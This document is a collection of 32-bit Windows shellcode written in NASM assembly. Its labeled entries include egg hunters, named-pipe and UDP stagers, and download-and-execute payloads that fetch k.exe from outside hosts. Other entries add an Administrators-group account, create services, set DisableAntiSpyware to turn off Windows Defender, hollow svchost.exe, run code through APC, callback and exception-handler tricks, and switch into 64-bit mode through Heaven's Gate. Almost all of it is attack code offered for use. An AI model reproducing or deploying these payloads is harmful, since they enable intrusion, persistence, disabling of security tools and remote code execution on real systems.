; Windows, 32 bit: hunts that ask functions, stages from pipes and other machines, users, services, the registry, other
; processes, threads and callbacks, handlers, the switch to 64 bits.

;= isbadreadptr_hunt 32 | windows x86 | -
	xor ebx, ebx
page:	or bx, 0xfff
next:	inc ebx
	push byte 8
	push ebx
	mov eax, 0x7c809e91
	call eax
	test eax, eax
	jnz page
	mov eax, 0x696e656b
	mov edi, ebx
	scasd
	jnz next
	scasd
	jnz next
	jmp edi

;= isbadreadptr_hunt_resolved 32 | windows x86 | -
%include "demo_resolve.inc"
HASH h_bad, 'IsBadReadPtr'
	RESOLVER
	push dword h_bad
	push ebx
	call ebp
	mov esi, eax
	xor ebx, ebx
page:	or bx, 0xfff
next:	inc ebx
	push byte 8
	push ebx
	call esi
	test eax, eax
	jnz page
	mov edi, ebx
	mov eax, 0x696e656b
	scasd
	jnz next
	scasd
	jnz next
	jmp edi

;= virtualquery_hunt 32 | windows x86 | -
%include "demo_resolve.inc"
HASH h_vq, 'VirtualQuery'
	RESOLVER
	push dword h_vq
	push ebx
	call ebp
	mov esi, eax
	xor ebx, ebx
	sub esp, 0x20
region:	mov edi, esp
	push byte 28
	push edi
	push ebx
	call esi
	test eax, eax
	jz done
	mov ebx, [edi]
	add ebx, [edi + 12]
	cmp dword [edi + 16], 0x1000
	jne region
	mov ecx, [edi + 12]
	mov edi, [edi]
	mov eax, 0x696e656b
	shr ecx, 2
look:	scasd
	je found
	loop look
	jmp short region
found:	jmp edi
done:	ret

;= unc_library 32 | windows x86 | call module.load
%include "demo_resolve.inc"
%include "windows_calls.inc"
	RESOLVER
	call name
	db '\\192.0.2.44\share\k.dll', 0
name:	CALL_API ebx, load_library
HASH h_ep, 'ExitProcess'
	push byte 0
	CALL_API ebx, h_ep

;= unc_exec 32 | windows x86 | execute 192.0.2.44
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH h_we, 'WinExec'
	RESOLVER
	push byte 1
	call name
	db '\\192.0.2.44\s\k.exe', 0
name:	times 0 nop
	CALL_API ebx, h_we

;= named_pipe_stage 32 | windows x86 | call CreateNamedPipeA
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH h_cnp, 'CreateNamedPipeA'
HASH h_conn, 'ConnectNamedPipe'
HASH h_rf, 'ReadFile'
HASH h_va, 'VirtualAlloc'
	RESOLVER
	xor eax, eax
	push eax
	push eax
	push 0x1000
	push 0x1000
	push byte 1
	push eax
	push byte 3
	call name
	db '\\.\pipe\kenbi', 0
name:	CALL_API ebx, h_cnp
	mov esi, eax
	push byte 0
	push esi
	CALL_API ebx, h_conn
	push byte 0x40
	push 0x1000
	push 0x10000
	push byte 0
	CALL_API ebx, h_va
	mov edi, eax
	push eax
	mov ecx, esp
	push byte 0
	push ecx
	push 0x10000
	push edi
	push esi
	CALL_API ebx, h_rf
	jmp edi

;= net_user_add 32 | windows x86 | user kenbi
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH h_nua, 'NetUserAdd'
HASH h_nlg, 'NetLocalGroupAddMembers'
	RESOLVER
	call n1
	db 'netapi32', 0
n1:	CALL_API ebx, load_library
	mov edi, eax
	call n2
	dw 'k','e','n','b','i',0
n2:	pop esi
	xor eax, eax
	push eax
	push dword 0x201
	push eax
	push eax
	push byte 1
	push eax
	push esi
	push esi
	mov ecx, esp
	push eax
	push ecx
	push byte 1
	push eax
	CALL_API edi, h_nua
	xor eax, eax
	push esi
	mov ecx, esp
	push byte 1
	push ecx
	push byte 3
	call n3
	dw 'A','d','m','i','n','i','s','t','r','a','t','o','r','s',0
n3:	push byte 0
	CALL_API edi, h_nlg

;= service_create 32 | windows x86 | call service.create kenbisvc
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH h_osc, 'OpenSCManagerA'
HASH h_cs, 'CreateServiceA'
HASH h_ss, 'StartServiceA'
	RESOLVER
	call n1
	db 'advapi32', 0
n1:	CALL_API ebx, load_library
	mov edi, eax
	push dword 0xf003f
	push byte 0
	push byte 0
	CALL_API edi, h_osc
	mov esi, eax
	xor eax, eax
	push eax
	push eax
	push eax
	push eax
	push eax
	call n2
	db 'c:\k.exe', 0
n2:	push eax
	push byte 2
	push byte 16
	push dword 0xf01ff
	call n3
	db 'kenbisvc', 0
n3:	mov ecx, [esp]
	push ecx
	push esi
	CALL_API edi, h_cs
	push byte 0
	push byte 0
	push eax
	CALL_API edi, h_ss

;= defender_off 32 | windows x86 | call DisableAntiSpyware
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH h_rck, 'RegCreateKeyA'
HASH h_rsv, 'RegSetValueExA'
	RESOLVER
	call n1
	db 'advapi32', 0
n1:	CALL_API ebx, load_library
	mov edi, eax
	push eax
	push esp
	call n2
	db 'SOFTWARE\Policies\Microsoft\Windows Defender', 0
n2:	push dword 0x80000002
	CALL_API edi, h_rck
	mov esi, [esp]
	push byte 1
	mov ecx, esp
	push byte 4
	push ecx
	push byte 4
	push byte 0
	call n3
	db 'DisableAntiSpyware', 0
n3:	push esi
	CALL_API edi, h_rsv

;= hollow_process 32 | windows x86 | execute svchost.exe
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH h_cp, 'CreateProcessA'
HASH h_vae, 'VirtualAllocEx'
HASH h_wpm, 'WriteProcessMemory'
HASH h_gtc, 'GetThreadContext'
HASH h_stc, 'SetThreadContext'
HASH h_rt, 'ResumeThread'
	RESOLVER
	sub esp, 0x400
	mov edi, esp
	xor eax, eax
	mov ecx, 0x40
	rep stosd
	mov edi, esp
	mov byte [edi], 0x44
	lea ecx, [edi + 0x44]
	push ecx
	push edi
	push eax
	push eax
	push byte 4
	push eax
	push eax
	push eax
	call n1
	db 'svchost.exe', 0
n1:	push eax
	CALL_API ebx, h_cp
	mov esi, [edi + 0x44]
	push byte 0x40
	push 0x3000
	push 0x1000
	push byte 0
	push esi
	CALL_API ebx, h_vae
	mov [edi + 0x60], eax
	push byte 0
	push byte 16
	call n2
	times 16 nop
n2:	push eax
	push esi
	CALL_API ebx, h_wpm
	mov dword [edi + 0x80], 0x10007
	lea ecx, [edi + 0x80]
	push ecx
	push dword [edi + 0x48]
	CALL_API ebx, h_gtc
	mov eax, [edi + 0x60]
	mov [edi + 0x80 + 0xb8], eax
	lea ecx, [edi + 0x80]
	push ecx
	push dword [edi + 0x48]
	CALL_API ebx, h_stc
	push dword [edi + 0x48]
	CALL_API ebx, h_rt

;= queue_apc 32 | windows x86 | execute calc
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH h_qua, 'QueueUserAPC'
HASH h_gct, 'GetCurrentThread'
HASH h_se, 'SleepEx'
HASH h_we, 'WinExec'
	RESOLVER
	CALL_API ebx, h_gct
	push byte 0
	push eax
	lea ecx, AT(routine)
	push ecx
	CALL_API ebx, h_qua
	push byte 1
	push byte 1
	CALL_API ebx, h_se
	ret
routine:
	push byte 1
	lea ecx, AT(command)
	push ecx
	CALL_API ebx, h_we
	ret 4
command: db 'calc.exe', 0

;= callback_locales 32 | windows x86 | execute calc
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH h_esl, 'EnumSystemLocalesA'
HASH h_we, 'WinExec'
	RESOLVER
	push byte 0
	lea ecx, AT(routine)
	push ecx
	CALL_API ebx, h_esl
	ret
routine:
	push byte 1
	lea ecx, AT(command)
	push ecx
	CALL_API ebx, h_we
	xor eax, eax
	ret 4
command: db 'calc.exe', 0

;= own_thread 32 | windows x86 | execute calc
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH h_ct, 'CreateThread'
HASH h_wf, 'WaitForSingleObject'
HASH h_we, 'WinExec'
	RESOLVER
	xor eax, eax
	push eax
	push eax
	push eax
	lea ecx, AT(routine)
	mov [esp + 8], eax
	add esp, 4
	push ebx
	push ecx
	push eax
	push eax
	CALL_API ebx, h_ct
	push byte -1
	push eax
	CALL_API ebx, h_wf
	ret
routine:
	mov ebx, [esp + 4]
	call here
here:	pop ebp
	sub ebp, here - find
	push byte 1
	lea ecx, AT(command)
	push ecx
	CALL_API ebx, h_we
	ret 4
command: db 'calc.exe', 0

;= alloc_copy_run 32 | windows x86 | execute calc
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH h_va, 'VirtualAlloc'
HASH h_vp, 'VirtualProtect'
HASH h_we, 'WinExec'
	RESOLVER
	push byte 4
	push 0x3000
	push 0x1000
	push byte 0
	CALL_API ebx, h_va
	mov edi, eax
	push edi
	lea esi, AT(code)
	mov ecx, code_end - code
next:	lodsb
	xor al, 0x33
	stosb
	loop next
	mov edi, [esp]
	push esp
	push byte 0x20
	push 0x1000
	push edi
	CALL_API ebx, h_vp
	push dword h_we
	push ebx
	call ebp
	jmp edi
code:	db 0x6a ^ 0x33, 0x01 ^ 0x33, 0x68 ^ 0x33, 'c' ^ 0x33, 'a' ^ 0x33, 'l' ^ 0x33, 'c' ^ 0x33
	db 0x89 ^ 0x33, 0xe1 ^ 0x33, 0x6a ^ 0x33, 0x00 ^ 0x33, 0x68 ^ 0x33, 'c' ^ 0x33, 'a' ^ 0x33, 'l' ^ 0x33, 'c' ^ 0x33
	db 0x89 ^ 0x33, 0xe1 ^ 0x33, 0x6a ^ 0x33, 1 ^ 0x33, 0x51 ^ 0x33, 0xff ^ 0x33, 0xd0 ^ 0x33, 0xc3 ^ 0x33
code_end:

;= rc4_system_function 32 | windows x86 | call SystemFunction032
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH h_sf, 'SystemFunction032'
	RESOLVER
	push dword 'pi32'
	mov dword [esp + 4], 0
	push byte 0
	push dword 'pi32'
	push dword 'adva'
	push esp
	CALL_API ebx, load_library
	lea ecx, AT(key)
	push ecx
	push 0x00040004
	mov esi, esp
	lea ecx, AT(data)
	push ecx
	push 0x00100010
	mov edi, esp
	push esi
	push edi
	CALL_API eax, h_sf
	lea ecx, AT(data)
	jmp ecx
key:	db 'kenb'
data:	times 16 db 0x55

;= heavens_gate_calls 32 | windows x86_64 | execute calc
	push ebp
	mov ebp, esp
	and esp, -16
	push byte 0x33
	call next
next:	add dword [esp], 5
	retf
bits 64
	%include "windows64_calls.inc"
	RESOLVER64
HASH64 h_we, 'WinExec'
	lea rcx, [rel command]
	mov edx, 1
	CALL64 rbx, h_we
HASH64 h_ep, 'ExitProcess'
	xor ecx, ecx
	CALL64 rbx, h_ep
command: db 'calc.exe', 0

;= heavens_gate_far_jump 32 | windows x86_64 | execute calc
	call here
here:	pop esi
	lea eax, [esi + wide - here]
	mov [esi + door - here], eax
	jmp far [esi + door - here]
door:	dd 0
	dw 0x33
wide:
bits 64
	%include "windows64_calls.inc"
	RESOLVER64
HASH64 h_we, 'WinExec'
	lea rcx, [rel command]
	mov edx, 1
	CALL64 rbx, h_we
	xor ecx, ecx
HASH64 h_ep, 'ExitProcess'
	CALL64 rbx, h_ep
command: db 'calc.exe', 0

;= veh_flow 32 | windows x86 | execute calc
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH h_aveh, 'AddVectoredExceptionHandler'
HASH h_we, 'WinExec'
	RESOLVER
	lea ecx, AT(routine)
	push ecx
	push byte 1
	CALL_API ebx, h_aveh
	xor eax, eax
	mov [eax], eax
	ret
routine:
	push byte 1
	lea ecx, AT(command)
	push ecx
	CALL_API ebx, h_we
	push byte 0
HASH h_ep, 'ExitProcess'
	CALL_API ebx, h_ep
command: db 'calc.exe', 0

;= suef_flow 32 | windows x86 | execute calc
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH h_suef, 'SetUnhandledExceptionFilter'
HASH h_we, 'WinExec'
	RESOLVER
	lea ecx, AT(routine)
	push ecx
	CALL_API ebx, h_suef
	xor eax, eax
	mov [eax], eax
routine:
	call here
here:	pop ebp
	sub ebp, here - find
	push byte 1
	lea ecx, AT(command)
	push ecx
	CALL_API ebx, h_we
	ret 4
command: db 'calc.exe', 0

;= shellexecute_runas 32 | windows x86 | execute cmd
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH h_se, 'ShellExecuteA'
	RESOLVER
	call n1
	db 'shell32', 0
n1:	CALL_API ebx, load_library
	push byte 1
	push byte 0
	call n2
	db '/c whoami', 0
n2:	call n3
	db 'cmd', 0
n3:	call n4
	db 'runas', 0
n4:	push byte 0
	CALL_API eax, h_se

;= url_cache_file 32 | windows x86 | download http://192.0.2.71/k.exe
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH h_ud, 'URLDownloadToCacheFileA'
HASH h_we, 'WinExec'
	RESOLVER
	call n1
	db 'urlmon', 0
n1:	CALL_API ebx, load_library
	sub esp, 0x104
	mov edi, esp
	push byte 0
	push byte 0
	push 0x104
	push edi
	call n2
	db 'http://192.0.2.71/k.exe', 0
n2:	push byte 0
	CALL_API eax, h_ud
	push byte 1
	push edi
	CALL_API ebx, h_we

;= open_url_write_exec 32 | windows x86 | download http://192.0.2.72/k.exe
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH h_io, 'InternetOpenA'
HASH h_iou, 'InternetOpenUrlA'
HASH h_irf, 'InternetReadFile'
HASH h_cf, 'CreateFileA'
HASH h_wf, 'WriteFile'
HASH h_ch, 'CloseHandle'
HASH h_we, 'WinExec'
	RESOLVER
	call n1
	db 'wininet', 0
n1:	CALL_API ebx, load_library
	mov edi, eax
	xor eax, eax
	push eax
	push eax
	push eax
	push eax
	push eax
	CALL_API edi, h_io
	push byte 0
	push dword 0x84000000
	push byte 0
	push byte 0
	call n2
	db 'http://192.0.2.72/k.exe', 0
n2:	push eax
	CALL_API edi, h_iou
	mov esi, eax
	push byte 0
	push byte 2
	push byte 2
	push byte 0
	push byte 0
	push dword 0x40000000
	call n3
	db 'k.exe', 0
n3:	CALL_API ebx, h_cf
	sub esp, 0x410
	mov [esp], eax
more:	lea ecx, [esp + 4]
	lea edx, [esp + 8]
	push ecx
	push dword 0x400
	push edx
	push esi
	CALL_API edi, h_irf
	cmp dword [esp + 4], 0
	je done
	lea ecx, [esp + 4]
	lea edx, [esp + 8]
	mov eax, [esp]
	push byte 0
	push ecx
	push dword [ecx]
	push edx
	push eax
	CALL_API ebx, h_wf
	jmp short more
done:	push dword [esp]
	CALL_API ebx, h_ch
	push byte 0
	call n4
	db 'k.exe', 0
n4:	times 0 nop
	CALL_API ebx, h_we

;= udp_stage 32 | windows x86 | connect 192.0.2.73
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH h_ws, 'WSAStartup'
HASH h_so, 'socket'
HASH h_co, 'connect'
HASH h_se, 'send'
HASH h_re, 'recv'
	RESOLVER
	push byte 0
	push dword '2_32'
	push dword 'ws'
	mov word [esp + 2], '2_'
	mov dword [esp + 4], '32'
	push esp
	CALL_API ebx, load_library
	mov edi, eax
	sub esp, 0x200
	push esp
	push dword 0x202
	CALL_API edi, h_ws
	push byte 17
	push byte 2
	push byte 2
	CALL_API edi, h_so
	mov esi, eax
	push dword 0x490200c0
	push dword 0x35000002
	mov ecx, esp
	push byte 16
	push ecx
	push esi
	CALL_API edi, h_co
	push byte 0
	push byte 4
	push esp
	push esi
	CALL_API edi, h_se
	sub esp, 0x400
	mov ecx, esp
	push byte 0
	push dword 0x400
	push ecx
	push esi
	CALL_API edi, h_re
	jmp esp

;= crypt_decrypt 32 | windows x86 | call CryptDecrypt
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH h_cac, 'CryptAcquireContextA'
HASH h_cch, 'CryptCreateHash'
HASH h_chd, 'CryptHashData'
HASH h_cdk, 'CryptDeriveKey'
HASH h_cd, 'CryptDecrypt'
	RESOLVER
	call n1
	db 'advapi32', 0
n1:	CALL_API ebx, load_library
	mov edi, eax
	sub esp, 0x20
	mov esi, esp
	push dword 0xf0000000
	push byte 1
	push byte 0
	push byte 0
	push esi
	CALL_API edi, h_cac
	lea ecx, [esi + 4]
	push ecx
	push byte 0
	push byte 0
	push dword 0x8003
	push dword [esi]
	CALL_API edi, h_cch
	push byte 0
	push byte 5
	call n2
	db 'kenbi'
n2:	push dword [esi + 4]
	CALL_API edi, h_chd
	lea ecx, [esi + 8]
	push ecx
	push byte 0
	push dword [esi + 4]
	push dword 0x6801
	push dword [esi]
	CALL_API edi, h_cdk
	mov dword [esi + 12], 16
	lea ecx, [esi + 12]
	push ecx
	lea ecx, AT(data)
	push ecx
	push byte 0
	push byte 1
	push byte 0
	push dword [esi + 8]
	CALL_API edi, h_cd
	lea ecx, AT(data)
	jmp ecx
data:	times 16 db 0x77

;= shutdown_box 32 | windows x86 | call ExitWindowsEx
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH h_ew, 'ExitWindowsEx'
	RESOLVER
	push dword '32'
	push dword 'user'
	push esp
	CALL_API ebx, load_library
	push byte 0
	push byte 5
	CALL_API eax, h_ew

;= ntdll_run 32 | windows x86 | -
; finds ntdll by its place in the list, calls by LdrLoadDll
%include "demo_resolve.inc"
HASH h_lld, 'LdrLoadDll'
HASH h_lgp, 'LdrGetProcedureAddress'
	RESOLVER
	mov eax, [fs:0x30]
	mov eax, [eax + 0xc]
	mov eax, [eax + 0x1c]
	mov edi, [eax + 8]
	push dword h_lld
	push edi
	call ebp
	mov esi, eax
	call n1
	dw 'u','r','l','m','o','n',0
n1:	pop ecx
	push ecx
	push 0x000e000c
	mov ecx, esp
	push eax
	push esp
	push ecx
	push byte 0
	push byte 0
	call esi
	pop edi
	push eax
	push esp
	push byte 0
	call n2
	db 'URLDownloadToFileA', 0
n2:	pop ecx
	push ecx
	push dword 0x00130012
	mov ecx, esp
	xor eax, eax
	push eax
	push eax
	push eax
	int3

;= icmp_echo 32 | windows x86 | call IcmpSendEcho
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH h_ic, 'IcmpCreateFile'
HASH h_is, 'IcmpSendEcho'
	RESOLVER
	call n1
	db 'iphlpapi', 0
n1:	CALL_API ebx, load_library
	mov edi, eax
	CALL_API edi, h_ic
	sub esp, 0x100
	mov ecx, esp
	push dword 1000
	push dword 0x100
	push ecx
	push byte 0
	push byte 4
	push ecx
	push dword 0x450200c0
	push eax
	CALL_API edi, h_is

;= murmur_like 32 | windows x86 | execute calc
	xor edx, edx
	mov eax, [fs:edx + 0x30]
	mov eax, [eax + 0x0c]
	mov eax, [eax + 0x14]
	mov eax, [eax]
	mov eax, [eax]
	mov ebx, [eax + 0x10]
	mov eax, [ebx + 0x3c]
	mov eax, [ebx + eax + 0x78]
	add eax, ebx
	mov ebp, eax
	mov edi, [ebp + 0x20]
	add edi, ebx
	xor ecx, ecx
name:	mov esi, [edi + ecx * 4]
	add esi, ebx
	inc ecx
	mov edx, 0x1505
char:	movzx eax, byte [esi]
	inc esi
	test al, al
	jz hashed
	or al, 0x20
	imul edx, edx, 0x5bd1e995
	xor edx, eax
	mov eax, edx
	shr eax, 15
	xor edx, eax
	jmp short char
hashed:
%assign h 0x1505
%assign k 1
%rep 7
%substr letter 'winexec' k
%assign h (h * 0x5bd1e995) & 0xffffffff
%assign h h ^ letter
%assign h h ^ (h >> 15)
%assign k k + 1
%endrep
	cmp edx, h
	jne name
	mov eax, [ebp + 0x24]
	add eax, ebx
	movzx ecx, word [eax + ecx * 2 - 2]
	mov eax, [ebp + 0x1c]
	add eax, ebx
	add ebx, [eax + ecx * 4]
	push byte 0
	push dword 'calc'
	mov ecx, esp
	push byte 1
	push ecx
	call ebx
